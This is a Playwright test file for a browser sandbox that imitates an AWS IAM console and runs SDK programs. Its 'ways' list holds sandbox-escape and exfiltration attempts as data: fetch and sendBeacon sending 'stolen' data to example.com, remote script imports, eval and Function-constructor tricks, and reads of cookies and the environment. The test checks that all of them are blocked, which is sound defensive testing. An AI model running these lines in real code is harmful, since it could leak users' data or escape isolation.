import { expect, type Page } from '@playwright/test';
import { faultsInThemes } from './axe';
import { keyboard } from './hands';
import { untilKept } from './site';
import { test } from './test';

const main = (page: Page) => page.getByRole('main');
const button = (page: Page, name: string) => main(page).getByRole('button', { name, exact: true });
const result = (page: Page) => main(page).getByRole('region', { name: 'Result' });
const printed = (page: Page) => main(page).getByRole('region', { name: 'Printed' });

/** The SDK tab in an empty account, with root signed in to the console. */
async function openSdk(page: Page) {
	await page.goto('/sandbox/');
	await page
		.getByRole('region', { name: 'Begin with' })
		.getByRole('listitem')
		.filter({ has: page.getByRole('heading', { name: 'An empty account', exact: true }) })
		.getByRole('button', { name: /^Open/ })
		.click();
	await button(page, 'Root user').click();
	await button(page, 'Sign in').click();
	await expect(page.getByRole('heading', { name: 'IAM Dashboard', exact: true })).toBeVisible();
	await main(page).getByRole('tab', { name: 'SDK' }).click();
	await expect(main(page).locator('.cm-content')).toBeVisible();
}

async function write(page: Page, program: string) {
	await main(page).locator('.cm-content').focus();
	await page.keyboard.press('ControlOrMeta+a');
	await page.keyboard.insertText(program);
}

test('a program is run against the account, under the content security policy of the page', async ({
	page
}) => {
	await openSdk(page);
	await button(page, 'Run').click();
	await expect(result(page)).toContainText('finished, after 1 call');
	await expect(main(page).getByRole('cell', { name: 'iam:ListUsers' })).toBeHidden();
	await expect(main(page).getByRole('rowheader', { name: 'iam:ListUsers' })).toBeVisible();

	await write(
		page,
		`import { CreateRoleCommand, CreateUserCommand, IAMClient } from '@aws-sdk/client-iam';
		await new IAMClient().send(new CreateUserCommand({ UserName: 'nia' }));
		console.log('done');`
	);
	await page.keyboard.press('ControlOrMeta+Enter');
	await expect(printed(page)).toHaveText('done');

	// What one does in one shows in the other.
	await main(page).getByRole('tab', { name: 'Console' }).click();
	await page.evaluate(() => (location.hash = '#/users'));
	await expect(main(page).getByRole('link', { name: 'nia', exact: true })).toBeVisible();
	await page.getByRole('button', { name: /^Undo/ }).first().click();
	await expect(main(page).getByRole('link', { name: 'nia', exact: true })).toBeHidden();

	// The program is there after a reload.
	await page.reload();
	await main(page).getByRole('tab', { name: 'SDK' }).click();
	await expect(main(page).locator('.cm-content')).toContainText("UserName: 'nia'");
});

/** Each way by which code in a browser reaches beyond itself, as somebody would write it. */
const ways: readonly string[] = [
	"fetch('https://example.com/?stolen')",
	"globalThis.fetch('/')",
	'new XMLHttpRequest()',
	"new WebSocket('wss://example.com')",
	"new EventSource('https://example.com')",
	"new WebTransport('https://example.com')",
	"navigator.sendBeacon('https://example.com', 'stolen')",
	"importScripts('https://example.com/a.js')",
	"import('https://example.com/a.js')",
	"import('data:text/javascript,1')",
	"import('blob:null/1')",
	"indexedDB.open('leastwise')",
	"caches.open('leastwise')",
	'localStorage.length',
	'sessionStorage.length',
	"new BroadcastChannel('leastwise')",
	"new Worker('data:text/javascript,1')",
	"new SharedWorker('/a.js')",
	'new RTCPeerConnection()',
	'navigator.storage.estimate()',
	'navigator.serviceWorker.controller',
	'document.cookie',
	'window.location',
	"self.postMessage('out')",
	"postMessage('out')",
	"eval('fetch')",
	'(0, eval)("import(\'https://example.com/a.js\')")',
	"new Function('return fetch')()",
	"(async () => {}).constructor('return fetch(1)')()",
	"console.log.constructor('return self')().fetch.name",
	"Error.prepareStackTrace.constructor('return indexedDB')()",
	'new WebAssembly.Module(new Uint8Array())',
	"require('node:https')",
	'process.env.HOME.length'
];

test('nothing that a program tries reaches the network, the page, storage or another tab', async ({
	page
}) => {
	await openSdk(page);
	const sent: string[] = [];
	page.on('request', (request) => sent.push(request.url()));
	await write(
		page,
		`const ways = ${JSON.stringify(ways)};
		let kept = 0;
		for (const way of ways) {
			try {
				await new Function('return (async () => (' + way + '))()')();
				console.log('reached: ' + way);
			} catch (error) {
				kept += error instanceof Error ? 1 : 0;
			}
		}
		console.log(kept + ' of ' + ways.length);`
	);
	await button(page, 'Run').click();
	await expect(printed(page)).toHaveText(`${ways.length} of ${ways.length}`);
	// The worker for the next run is being made.
	expect(sent.filter((url) => !url.includes('/_app/immutable/'))).toEqual([]);
	await expect(page).toHaveURL(/\/sandbox\/play\//);
});

test('an endless loop is stopped, and Stop stops at once', async ({ page }) => {
	await openSdk(page);
	await write(page, 'while (true) {}');
	await button(page, 'Run').click();
	await expect(page.getByRole('alert')).toContainText('it ran without a pause');
	await write(page, 'setInterval(() => {}, 10);');
	await button(page, 'Run').click();
	await button(page, 'Stop').click();
	await expect(result(page)).toContainText('stopped, after 0 calls');
});

test('it runs without a network, once the site is kept', async ({ browser }) => {
	test.slow();
	const context = await browser.newContext({ serviceWorkers: 'allow' });
	const page = await context.newPage();
	await page.goto('/');
	await untilKept(page);
	await context.setOffline(true);
	await openSdk(page);
	await button(page, 'Run').click();
	await expect(result(page)).toContainText('finished, after 1 call');
	await context.close();
});

for (const width of [1440, 360]) {
	test(`by keyboard alone at ${width} pixels, and axe has nothing to say`, async ({ page }) => {
		await openSdk(page);
		await page.setViewportSize({ width, height: 800 });
		const hands = keyboard(page);
		if (width < 1024) await hands.press(page.getByRole('button', { name: /^SDK/ }));
		await main(page).locator('.cm-content').focus();
		await page.keyboard.press('Escape');
		await page.keyboard.press('Shift+Tab');
		await expect(button(page, 'Run')).toBeFocused();
		await page.keyboard.press('Enter');
		await expect(result(page)).toContainText('finished, after 1 call');
		await hands.press(button(page, 'Now with gaps'));
		await hands.press(button(page, 'Run'));
		await expect(page.getByRole('alert')).toContainText(/threw/);
		const { light, dark } = await faultsInThemes(page);
		expect(light).toEqual([]);
		expect(dark).toEqual([]);
		const wider = await page.evaluate(
			() => document.documentElement.scrollWidth - document.documentElement.clientWidth
		);
		expect(wider).toBeLessThanOrEqual(0);
	});
}
